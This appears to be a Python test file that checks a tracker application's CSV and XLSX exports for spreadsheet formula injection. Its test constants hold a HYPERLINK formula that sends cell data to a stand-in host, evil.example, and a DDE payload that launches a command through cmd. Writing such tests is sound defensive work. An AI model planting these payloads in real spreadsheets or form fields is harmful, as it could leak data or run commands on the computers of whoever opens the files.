"""Issue 17, finding 2: no export puts a live formula into a spreadsheet. A step, a role and
every register's text fields hold formula-like text; the RACI workbook and every register's
CSV and XLSX show it as text. One writer (tracker/spreadsheets.py) serves every export."""

import csv
import io
import re
from pathlib import Path

from openpyxl import load_workbook

from tests.helpers import make_initiative
from tests.integration.registers.test_pilots import make_pilot
from tests.integration.sops.test_sops import STEP, make_sop
from tracker import spreadsheets
from tracker.problems.tables import Problem

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ["+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)"]
REGISTERS = ["problems", "measures", "pilots", "feedback", "risks", "resistance"]


def assert_xlsx_has_no_formula(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_csv_has_no_formula(content: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    for cell in cells:
        assert not cell.startswith(spreadsheets.FORMULA_START) or is_number(cell), cell
    return cells


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_raci_export_writes_a_formula_like_step_and_role_as_text(world):
    initiative = await make_initiative(world.a, phase=3)
    version = await make_sop(world, world.a, initiative)
    async with world.client(world.a, "lead") as client:
        step = await client.post(
            f"/o/alpha/sop-versions/{version}/steps", data={**STEP, "name": HYPERLINK}
        )
        role = await client.post(f"/o/alpha/sop-versions/{version}/roles", data={"role_name": DDE})
        assert step.status_code == 303 and role.status_code == 303, role.text[:500]
        export = await client.get(f"/o/alpha/sop-versions/{version}/raci.xlsx")
        as_csv = await client.get(f"/o/alpha/sop-versions/{version}/raci.csv")
    assert export.status_code == as_csv.status_code == 200
    texts = assert_xlsx_has_no_formula(export.content)
    assert HYPERLINK in texts and DDE in texts  # shown as typed, as text
    cells = assert_csv_has_no_formula(as_csv.content)
    assert "'" + HYPERLINK in cells and "'" + DDE in cells


async def fill_every_register(client, initiative: int, pilot: int) -> None:
    base = f"/o/alpha/initiatives/{initiative}"
    posts = [
        (
            f"{base}/problems",
            {"title": HYPERLINK, "description": DDE, "category": "quality"}
            | {"impact": "3", "urgency": "4", "whys": f"{OTHERS[0]}\n{OTHERS[1]}"},
        ),
        (
            f"{base}/risks",
            {"description": HYPERLINK, "category": "organisation"}
            | {"likelihood": "3", "impact": "5", "mitigation": DDE},
        ),
        (
            f"{base}/resistance",
            {"stakeholder_group": HYPERLINK, "level": "high"}
            | {"barrier": "desire", "concern": DDE, "root_cause": OTHERS[2], "action": OTHERS[0]},
        ),
        (
            f"/o/alpha/pilots/{pilot}/metrics",
            {"name": HYPERLINK, "unit": DDE}
            | {"direction": "lower", "baseline": "30", "result": "8", "target": "10"},
        ),
        (f"/o/alpha/pilots/{pilot}/unmet", {"unmet_problem": HYPERLINK, "unmet_cause": DDE}),
        (f"/o/alpha/pilots/{pilot}/feedback", {"text": HYPERLINK, "category": "process"}),
    ]
    for path, data in posts:
        response = await client.post(path, data=data)
        assert response.status_code in (200, 303), (path, response.text[:300])
    problem = await Problem.select(Problem.id).where(Problem.initiative == initiative).first()
    measure = {"goal": HYPERLINK, "problem": str(problem["id"]), "measure": DDE}
    response = await client.post(
        f"{base}/measures",
        data=measure | {"department": OTHERS[2], "expected_effect": OTHERS[1]},
    )
    assert response.status_code == 303, response.text[:300]


async def test_every_register_export_writes_formula_like_text_as_text(world):
    initiative = await make_initiative(world.a, phase=4, name=HYPERLINK)
    pilot = await make_pilot(world, world.a, initiative)
    async with world.client(world.a, "lead") as client:
        await fill_every_register(client, initiative, pilot)
        for register in REGISTERS:
            base = f"/o/alpha/initiatives/{initiative}/export/{register}"
            as_csv = await client.get(f"{base}?format=csv")
            as_xlsx = await client.get(f"{base}?format=xlsx")
            assert as_csv.status_code == as_xlsx.status_code == 200, register
            cells = assert_csv_has_no_formula(as_csv.content)
            texts = assert_xlsx_has_no_formula(as_xlsx.content)
            assert any(c.startswith("'" + HYPERLINK) for c in cells), (register, cells)
            assert any(t.startswith(HYPERLINK) for t in texts), register


def test_the_writer_guards_every_formula_start_and_drops_what_xlsx_cannot_hold():
    table = spreadsheets.Table(
        title="T: [x]",
        headers=["=h"],
        rows=[["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", -5, 2.5, "a\x01b", "plain"]],
    )
    cells = list(csv.reader(io.StringIO(spreadsheets.to_csv(table).decode("utf-8-sig"))))
    assert cells[0] == ["'=h"]
    assert cells[1][:6] == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert cells[1][6:] == ["-5", "2.5", "a\x01b", "plain"]  # numbers stay numbers
    book = load_workbook(io.BytesIO(spreadsheets.to_xlsx(table)))
    row = next(book.active.iter_rows(min_row=2))
    assert [c.data_type for c in row[:6]] == ["s"] * 6
    assert all(c.quotePrefix for c in row[:6])
    assert row[6].value == -5 and row[8].value == "ab"


def test_no_other_module_writes_spreadsheets():
    """Every export goes through tracker/spreadsheets.py, present and future."""
    root = Path(__file__).resolve().parents[2] / "tracker"
    writers = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter|openpyxl\.Workbook")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and writers.search(path.read_text())
    ]
    assert offenders == []
